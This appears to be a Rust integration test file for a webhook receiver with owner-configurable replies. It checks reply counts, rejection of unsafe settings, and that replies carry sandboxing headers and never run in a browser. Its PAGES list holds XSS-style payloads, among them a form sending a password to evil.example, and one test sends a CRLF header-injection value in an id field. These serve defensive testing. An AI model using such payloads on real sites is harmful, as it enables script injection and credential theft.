//! What an owner sets, senders get, as often as was said.

use delivery::ReplyUse;
use http::{Method, StatusCode};
use tests::{
    client::{header, json},
    home::Home,
};

#[tokio::test]
async fn a_counted_reply_is_sent_that_often_and_recorded_with_its_use() {
    let home = Home::start().await;
    let person = home.person().await;
    let setting = r#"{"status":503,"content_type":"text/plain","headers":[["retry-after","9"]],"body":"try {{id}} later","times":3}"#;
    let set = person.reply_with(setting).await;
    assert_eq!(set["times_left"], 3);

    let event = r#"{"data":"{\"id\":42}"}"#;
    for use_left in [2, 1, 0] {
        let response = person.post("application/json", event).await;
        assert_eq!(response.status(), StatusCode::SERVICE_UNAVAILABLE);
        assert_eq!(response.body(), "try 42 later");
        assert_eq!(header(response.headers(), "retry-after"), "9");
        assert_eq!(header(response.headers(), "content-type"), "text/plain");
        assert_eq!(
            header(response.headers(), "content-security-policy"),
            "default-src 'none'; sandbox"
        );
        let reply = person.create().await.reply;
        assert_eq!(reply.and_then(|set| set.times_left).unwrap_or(0), use_left);
    }
    let response = person.post("application/json", event).await;
    assert_eq!(response.body(), r#"{"ok":true,"id":42}"#);

    let uses: Vec<_> =
        person.log("").await.deliveries.iter().map(|d| d.response.reply_use).collect();
    let nth = |n| Some(ReplyUse { n, of: 3 });
    assert_eq!(uses, [nth(1), nth(2), nth(3), None]);
    home.stack.stop().await.unwrap();
}

#[tokio::test]
async fn an_invalid_reply_is_refused_by_field_and_changes_nothing() {
    let home = Home::start().await;
    let person = home.person().await;
    for (setting, field) in [
        (r#"{"status":404}"#, "times"),
        (r#"{"status":302,"times":1,"headers":[["location","https://example.com"]]}"#, "headers"),
        (r#"{"status":200,"headers":[["set-cookie","a=b"]]}"#, "headers"),
        (r#"{"status":200,"content_type":"text/html"}"#, "content_type"),
        (r#"{"status":200,"delay_ms":99999,"times":1}"#, "delay_ms"),
    ] {
        let refused = person.call(Method::PUT, "/api/reply", setting).await;
        assert_eq!(refused.status(), StatusCode::BAD_REQUEST, "{setting}");
        assert_eq!(json(&refused)["field"], field, "{setting}");
    }
    assert!(person.create().await.reply.is_none());
    home.stack.stop().await.unwrap();
}

#[tokio::test]
async fn a_delay_is_recorded_before_it_is_waited_for() {
    let home = Home::start().await;
    let person = home.person().await;
    person.reply_with(r#"{"status":200,"delay_ms":30000,"times":1}"#).await;
    let waiting = tokio::spawn({
        let person = person.clone();
        async move { person.post("text/plain", "slow").await }
    });
    let delivery = tests::eventually("the delayed delivery is in the log", || async {
        person.log("").await.deliveries.into_iter().next()
    })
    .await;
    assert!(!waiting.is_finished(), "its sender still waits");
    assert_eq!(delivery.response.delay_ms, 30_000);
    waiting.abort();
    home.stack.stop().await.unwrap();
}

/// Texts that would act if a browser took them for a page, a script, a style or an image.
const PAGES: [&str; 4] = [
    "<!doctype html><title>pwned</title><script>document.title='pwned'</script><form action=https://evil.example><input name=password>",
    "<svg xmlns='http://www.w3.org/2000/svg' onload='document.title=1'/>",
    "window.pwned = 1; //",
    "<?xml version='1.0'?><?xml-stylesheet href='javascript:1'?><html xmlns='http://www.w3.org/1999/xhtml'><script>1</script></html>",
];

/// What no answer of the receiver may be without, and what it may not have.
fn is_inert(response: &http::Response<bytes::Bytes>, what: &str) {
    let headers = response.headers();
    assert_eq!(header(headers, "x-content-type-options"), "nosniff", "{what}");
    assert_eq!(header(headers, "content-security-policy"), "default-src 'none'; sandbox", "{what}");
    assert_eq!(header(headers, "content-disposition"), "attachment", "{what}");
    let kind = header(headers, "content-type");
    assert!(
        !kind.contains("html") && !kind.contains("script") && !kind.contains("svg"),
        "{what}: {kind}"
    );
    for name in [
        "location",
        "refresh",
        "set-cookie",
        "clear-site-data",
        "service-worker-allowed",
        "access-control-allow-origin",
        "link",
        "x-injected",
    ] {
        assert!(!headers.contains_key(name), "{what} has {name}");
    }
}

#[tokio::test]
async fn replies_of_the_real_binaries_are_inert() {
    use local::{engine::Engine, gateway};
    use runtime_api::Environment;

    let data = tempfile::tempdir().unwrap();
    let engine = Engine::start(data.path()).await.unwrap();
    let store = engine.store("replies");
    store::table::create_if_absent(&store).await.unwrap();
    let variables = [("TABLE_NAME", "replies"), ("AWS_ENDPOINT_URL_DYNAMODB", engine.url.as_str())];
    let (mut receiver, mut api) = crate::both_functions(&variables, &[]).await;
    let person = tests::home::Person::new("unused", &tests::client::Client::default());
    let arrived = gateway::Arrived {
        from: [203, 0, 113, 7].into(),
        port: 443,
        at: function_url::system_clock()(),
    };
    let ask = async |function: &mut Environment, method: Method, path: &str, body: String| {
        let request = http::Request::builder()
            .method(method)
            .uri(path)
            .header("authorization", format!("Bearer {}", person.owner.reveal()))
            .header("content-type", "application/json")
            .body(bytes::Bytes::from(body))
            .unwrap();
        let event = String::from_utf8(gateway::event(&request, arrived, "id").unwrap()).unwrap();
        let answer = function.invoke(&event, tests::DEADLINE).await.unwrap();
        gateway::response(answer.json.as_bytes()).unwrap()
    };
    ask(&mut api, Method::PUT, "/api/endpoint", String::new()).await;
    let hook = format!("/hook/{}", person.endpoint);

    // A valid reply is inert, whatever its text and the id that a sender puts into it.
    for kind in [
        "application/json",
        "text/plain",
        "application/xml",
        "text/xml",
        "application/octet-stream",
        "image/gif",
    ] {
        for (status, body) in [200, 302, 404].into_iter().zip(PAGES.iter().cycle()) {
            let setting = serde_json::json!({ "status": status, "times": 20, "content_type": kind, "body": format!("{body}{{{{id}}}}{{{{json.id}}}}"), "headers": [["x-reply-a", "<b>"]] });
            let set = ask(&mut api, Method::PUT, "/api/reply", setting.to_string()).await;
            assert_eq!(set.status(), StatusCode::OK, "{setting}");
            let event =
                serde_json::json!({ "id": "\r\nx-injected: 1\r\n\r\n<script>" }).to_string();
            let reply = ask(&mut receiver, Method::POST, &hook, event).await;
            assert_eq!(reply.status(), status);
            assert_eq!(header(reply.headers(), "content-type"), kind);
            is_inert(&reply, &format!("{status} {kind}"));
        }
    }
    // So are the receiver's own responses.
    ask(&mut api, Method::DELETE, "/api/reply", String::new()).await;
    for (method, path, body) in [
        (Method::POST, hook.as_str(), "{}".to_owned()),
        (Method::GET, hook.as_str(), String::new()),
        (Method::POST, hook.as_str(), "x".repeat(300_000)),
    ] {
        let answer = ask(&mut receiver, method, path, body).await;
        is_inert(&answer, "the receiver's own");
    }
    engine.stop().await;
}

#[tokio::test]
async fn a_reply_with_a_page_or_script_does_nothing_in_a_browser() {
    use tests::{browser::LIGHT, visit::Visit};

    let home = Home::start().await;
    let person = home.person().await;
    let visit = Visit::to(&home, LIGHT).await;
    for (kind, body) in
        ["text/plain", "application/xml", "application/json", "application/octet-stream"]
            .into_iter()
            .zip(PAGES)
    {
        let setting = serde_json::json!({ "status": 200, "content_type": kind, "body": body });
        person.reply_with(&setting.to_string()).await;
        // Opened, it is a file to save; the page stays where it was.
        let _ = visit.browser.client.goto(&person.hook_url()).await;
        let at = visit.browser.client.current_url().await.unwrap();
        assert!(
            at.as_str().starts_with(&home.stack.page_url) && !at.path().starts_with("/hook"),
            "{at}"
        );
        // As a script, a style or a frame of the page it is not loaded.
        let script = "const [url, done] = arguments;
            const load = (name, attributes) => new Promise((resolve) => {
              const element = document.createElement(name);
              element.addEventListener('load', () => resolve(`${name} loaded`));
              element.addEventListener('error', () => resolve('blocked'));
              try { Object.assign(element, attributes); } catch { resolve('blocked'); return; }
              document.head.append(element);
            });
            Promise.all([load('script', { src: url }), load('link', { rel: 'stylesheet', href: url }), load('img', { src: url })])
              .then((came) => done([came, window.pwned ?? null, document.title]))";
        let came = visit.run_async(script, vec![serde_json::json!(person.hook_url())]).await;
        assert_eq!(came[0], serde_json::json!(["blocked", "blocked", "blocked"]), "{kind}");
        assert!(came[1].is_null(), "{kind}: {came}");
        assert!(!came[2].as_str().unwrap().contains("pwned"), "{kind}: {came}");
    }
    visit.end(home).await;
}
